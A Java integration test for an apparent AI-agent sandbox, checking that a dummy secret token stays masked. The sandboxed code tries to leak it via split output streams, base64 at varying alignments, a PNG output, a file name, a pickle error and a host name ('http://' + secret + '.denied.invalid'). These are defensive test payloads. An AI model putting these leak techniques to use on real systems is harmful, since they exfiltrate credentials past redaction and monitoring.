package io.agentnest.docker;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import io.agentnest.ApprovalDecision;
import io.agentnest.ApprovalRequest;
import io.agentnest.ExecOptions;
import io.agentnest.ExecResult;
import io.agentnest.FileInfo;
import io.agentnest.FileOperationException;
import io.agentnest.ForkReport;
import io.agentnest.NetworkEvent;
import io.agentnest.NetworkPolicy;
import io.agentnest.RichOutput;
import io.agentnest.Sandbox;
import io.agentnest.SandboxConfig;
import io.agentnest.Secret;
import io.agentnest.audit.AuditLog;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/**
 * The redaction gaps an attacker in the sandbox found (issue 16 item 7), on the real engine: base64
 * wrapped into lines, a secret split between stdout and stderr, a secret in a binary rich output,
 * in a file name, in a host name (audit, approval question, network listener) and in a fork
 * report's text. The secret is a valid DNS label, so it can be one.
 */
@ExtendWith(DockerEngineRequired.class)
class SecretLeaksIT {
  static final String NAME = "SERVICE_TOKEN";
  static final String TOKEN = "tok-9f8e7d6c5b4a39281706";
  static final String MASK = "[REDACTED:" + NAME + "]";

  @TempDir static Path home;
  static TestHome isolated;
  static AuditLog audit;
  static Sandbox sandbox;
  static final List<ApprovalRequest> asked = new CopyOnWriteArrayList<>();
  static final List<NetworkEvent> events = new CopyOnWriteArrayList<>();

  @BeforeAll
  static void start() throws Exception {
    isolated = TestHome.use(home);
    audit = AuditLog.open(home.resolve("audit"));
    sandbox =
        Sandbox.create(
            SandboxConfig.builder()
                .auditLog(audit)
                .secretEnv(NAME, Secret.of(TOKEN))
                .network(
                    NetworkPolicy.builder()
                        .allow("allowed.invalid")
                        .onUnknownHost(NetworkPolicy.Mode.ASK)
                        .build())
                .approvalHandler(
                    request -> {
                      asked.add(request);
                      return CompletableFuture.completedFuture(
                          new ApprovalDecision(false, "refused by test", "tester"));
                    })
                .onNetworkEvent(events::add)
                .build());
  }

  @AfterAll
  static void stop() {
    if (sandbox != null) {
      sandbox.destroy();
    }
    if (audit != null) {
      audit.close();
    }
    if (isolated != null) {
      isolated.close();
    }
  }

  /** Every text a reader sees of a result: each stream, both orders glued, the merged stream. */
  static List<String> views(ExecResult r, String merged) {
    List<String> v = new ArrayList<>(List.of(r.stdout(), r.stderr(), merged));
    v.add(r.stdout() + r.stderr());
    v.add(r.stderr() + r.stdout());
    return v;
  }

  static boolean base64Leaks(String text, String secret) {
    String flat = text.replace("\r", "").replace("\n", "");
    for (int i = 0; i < flat.length(); i++) {
      int j = i;
      while (j < flat.length()
          && (Character.isLetterOrDigit(flat.charAt(j)) || "+/".indexOf(flat.charAt(j)) >= 0)) {
        j++;
      }
      int len = (j - i) - ((j - i) % 4 == 1 ? 1 : 0);
      if (len >= 4) {
        try {
          String d =
              new String(
                  Base64.getDecoder().decode(flat.substring(i, i + len)),
                  StandardCharsets.ISO_8859_1);
          if (d.contains(secret)) {
            return true;
          }
        } catch (IllegalArgumentException e) {
          // not base64 from this offset
        }
      }
    }
    return false;
  }

  @Test
  void aSecretSplitBetweenStdoutAndStderrIsMaskedWhereverTheStreamsAreJoined() {
    for (int k : new int[] {1, 7, TOKEN.length() - 1}) {
      for (String order : List.of("out-first", "err-first")) {
        String code =
            "import os, sys, time\n"
                + "t = os.environ['"
                + NAME
                + "']\n"
                + "a, b = (sys.stdout, sys.stderr) if '"
                + order
                + "' == 'out-first' else (sys.stderr, sys.stdout)\n"
                + "a.write(t[:"
                + k
                + "]); a.flush(); time.sleep(0.05)\n"
                + "b.write(t["
                + k
                + ":]); b.flush()\n";
        StringBuilder merged = new StringBuilder();
        ExecResult r =
            sandbox.runCode(
                code, ExecOptions.builder().onOutput(c -> merged.append(c.text())).build());
        for (String view : views(r, merged.toString())) {
          assertThat(view).as("split at %d, %s", k, order).doesNotContain(TOKEN);
        }
      }
    }
  }

  @Test
  void base64WrappedInto76ColumnLinesIsMaskedWhereverTheBreakFalls() {
    ExecResult r =
        sandbox.runCode(
            "import os, base64\n"
                + "t = os.environ['"
                + NAME
                + "'].encode()\n"
                + "for pad in range(0, 58):\n"
                + "    print(base64.encodebytes(b'x' * pad + t + b'tail').decode(), end='')\n"
                + "    print('--')\n");
    assertThat(r.error()).isNull();
    assertThat(base64Leaks(r.stdout(), TOKEN)).as(r.stdout()).isFalse();
    ExecResult coreutils =
        sandbox.exec(
            "for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do"
                + " { head -c $((n * 3)) /dev/zero | tr '\\0' x; printf %s \"$"
                + NAME
                + "\"; } | base64; done");
    assertThat(base64Leaks(coreutils.stdout(), TOKEN)).as(coreutils.stdout()).isFalse();
  }

  @Test
  void aFourCharacterSecretsBase64IsMaskedAtEveryAlignment() {
    try (Sandbox pin =
        Sandbox.create(
            SandboxConfig.builder().auditLog(audit).secretEnv("PIN", Secret.of("k9#Z")).build())) {
      ExecResult r =
          pin.runCode(
              "import os, base64\n"
                  + "p = os.environ['PIN'].encode()\n"
                  + "for pre in (b'', b'a', b'ab'):\n"
                  + "    print(base64.b64encode(pre + p + b'!').decode())\n"
                  + "    print(base64.urlsafe_b64encode(pre + p).decode())\n");
      assertThat(base64Leaks(r.stdout(), "k9#Z")).as(r.stdout()).isFalse();
      assertThat(r.stdout().lines()).allSatisfy(l -> assertThat(l).contains("[REDACTED:PIN]"));
    }
  }

  @Test
  void aBinaryRichOutputHoldingTheSecretIsWithheld() {
    ExecResult r =
        sandbox.runCode(
            "import os\n"
                + "class Picture:\n"
                + "    def _repr_png_(self):\n"
                + "        return b'\\x89PNG\\r\\n\\x1a\\n' + os.environ['"
                + NAME
                + "'].encode() + b'\\x00' * 16\n"
                + "Picture()");
    assertThat(r.rich()).hasSize(1);
    RichOutput ro = r.rich().get(0);
    assertThat(ro.mimeType()).isEqualTo("text/plain");
    assertThat(new String(ro.data(), StandardCharsets.UTF_8))
        .startsWith(MASK)
        .contains("image/png")
        .doesNotContain(TOKEN);
    assertThat(Base64.getEncoder().encodeToString(ro.data())).doesNotContain("dG9r");
  }

  @Test
  void aFileNamedAfterTheSecretIsListedMaskedAndNeverExported() throws Exception {
    sandbox.exec("mkdir -p out && echo data > \"out/$" + NAME + ".txt\"");
    List<FileInfo> listed = sandbox.files().listRecursive("out");
    assertThat(listed).extracting(FileInfo::path).containsExactly("out/" + MASK + ".txt");
    Path export = home.resolve("export");
    assertThatThrownBy(() -> sandbox.exportArtifacts("out/*", export))
        .isInstanceOf(FileOperationException.class)
        .hasMessageContaining("holds the value of a secret")
        .extracting(e -> ((FileOperationException) e).code())
        .isEqualTo("SECRET_IN_NAME");
    try (Stream<Path> s = Files.walk(home)) {
      assertThat(s.map(Path::toString)).noneMatch(p -> p.contains(TOKEN));
    }
  }

  @Test
  void aSecretUsedAsAHostNameIsMaskedInTheAuditTheQuestionAndTheEvent() throws Exception {
    ExecResult r =
        sandbox.runCode(
            "import os, urllib.request\n"
                + "try:\n"
                + "    urllib.request.urlopen('http://' + os.environ['"
                + NAME
                + "'] + '.denied.invalid/', timeout=20)\n"
                + "except Exception as e:\n"
                + "    print(type(e).__name__)\n");
    assertThat(r.stdout()).isNotEmpty();
    // The attempt's event and audit record follow the refusal the sandbox already got.
    await().atMost(Duration.ofSeconds(30)).until(() -> !events.isEmpty() && !asked.isEmpty());
    assertThat(asked)
        .allSatisfy(
            q -> {
              assertThat(q.target()).doesNotContain(TOKEN).contains(MASK);
              assertThat(q.detail()).doesNotContain(TOKEN);
            });
    assertThat(events).isNotEmpty();
    assertThat(events)
        .allSatisfy(
            e -> {
              assertThat(e.host()).doesNotContain(TOKEN);
              assertThat(e.reason()).doesNotContain(TOKEN);
            });
    assertThat(events).anySatisfy(e -> assertThat(e.host()).isEqualTo(MASK + ".denied.invalid"));
    // What lands on disk: the audit log's files hold no trace of the value.
    try (Stream<Path> s = Files.walk(home.resolve("audit"))) {
      for (Path f : s.filter(Files::isRegularFile).toList()) {
        assertThat(new String(Files.readAllBytes(f), StandardCharsets.ISO_8859_1))
            .as("%s", f)
            .doesNotContain(TOKEN);
      }
    }
  }

  @Test
  void aForkReportDoesNotRepeatTheSecretFromTheSandboxsText() {
    sandbox.runCode(
        "import os\n"
            + "class Leaky:\n"
            + "    def __reduce__(self):\n"
            + "        raise TypeError('cannot pickle ' + os.environ['"
            + NAME
            + "'])\n"
            + "leaky = Leaky()\n");
    try (Sandbox copy = sandbox.fork()) {
      ForkReport report = copy.forkReport().orElseThrow();
      assertThat(report.skipped()).anySatisfy(s -> assertThat(s.name()).isEqualTo("leaky"));
      assertThat(report.toString()).doesNotContain(TOKEN).contains(MASK);
    } finally {
      sandbox.runCode("del leaky");
    }
  }
}
